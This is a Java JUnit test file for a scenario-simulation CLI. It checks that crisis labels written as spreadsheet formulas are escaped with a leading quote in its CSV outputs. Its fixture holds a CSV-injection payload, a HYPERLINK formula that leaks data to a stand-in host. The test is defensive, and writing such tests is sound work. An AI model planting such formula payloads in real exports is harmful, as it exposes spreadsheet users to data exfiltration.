package io.spokes.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A crisis label that a spreadsheet would run as a formula is neutralised in results.csv (report),
 * crisis.csv and compare.csv ({@code --format csv}, to a file and to standard output): the cell
 * starts with a single quote (issue 14, item 6; io.spokes.io.csv.CsvWriter#text).
 */
class CsvInjectionCliTest {
    private static final String FORMULA = "=HYPERLINK(\"\"http://example.com/?leak\"\",\"\"click\"\")";
    private static final String CELL = ",\"'" + FORMULA + "\",";

    private static Path scenario(Path dir) throws IOException {
        return Files.writeString(dir.resolve("inj.yaml"), """
                name: inj
                year: 2020
                states:
                  - {id: AAA, cow: 1, name: "=1+2", capability: 0.1}
                  - {id: BBB, cow: 3, name: B, capability: 0.1}
                  - {id: CCC, cow: 4, name: C, capability: 0.1}
                treaties:
                  - {id: T, name: T, source: test, signed: 2000-01-01, members: [{state: CCC, obligations: [defense]}, {state: BBB, obligations: [defense]}]}
                crises:
                  - {challenger: AAA, target: BBB, label: '=HYPERLINK("http://example.com/?leak","click")'}
                """);
    }

    @Test
    void reportCrisisAndCompareTablesNeutraliseFormulaLabels(@TempDir Path dir) throws IOException {
        Path file = scenario(dir);
        assertThat(Cli.run("report", file.toString(), "--out", dir.resolve("r").toString()).code()).isZero();
        assertThat(Cli.run("crisis", file.toString(), "--challenger", "AAA", "--target", "BBB", "--format", "csv",
                "--out", dir.resolve("crisis.csv").toString()).code()).isZero();
        assertThat(Cli.run("compare", file.toString(), "--architectures", "lattice", "--format", "csv",
                "--out", dir.resolve("compare.csv").toString()).code()).isZero();
        Cli stdout = Cli.run("crisis", file.toString(), "--challenger", "AAA", "--target", "BBB", "--format", "csv");
        for (String table : new String[] {Files.readString(dir.resolve("r/results.csv")), Files.readString(dir.resolve("crisis.csv")),
                Files.readString(dir.resolve("compare.csv")), stdout.out()}) {
            assertThat(table.lines().skip(1)).allSatisfy(l -> assertThat(l).contains(CELL));
            assertThat(table).doesNotContain(",\"=").doesNotContain(",=");
        }
    }
}
